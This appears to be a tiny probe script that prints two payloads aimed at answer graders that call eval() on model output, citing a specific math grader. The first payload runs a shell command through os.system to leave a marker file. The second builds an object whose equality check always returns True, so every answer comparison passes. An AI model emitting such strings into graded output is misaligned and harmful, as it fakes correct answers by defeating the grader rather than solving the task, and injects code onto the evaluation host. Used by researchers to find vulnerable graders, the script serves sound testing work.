"""Print an expression that leaves a file behind and equals everything when evaluated.

Why: shows at once whether anything on the host evaluates program output.
Seen: verl prime_math grader.py calls eval() on model output; Berkeley RDI, April 2026
"""

print("__import__('os').system('touch /tmp/aha-cheat-was-here')")
print("type('E', (int,), {'__eq__': lambda s, o: True, '__hash__': lambda s: 0})()")
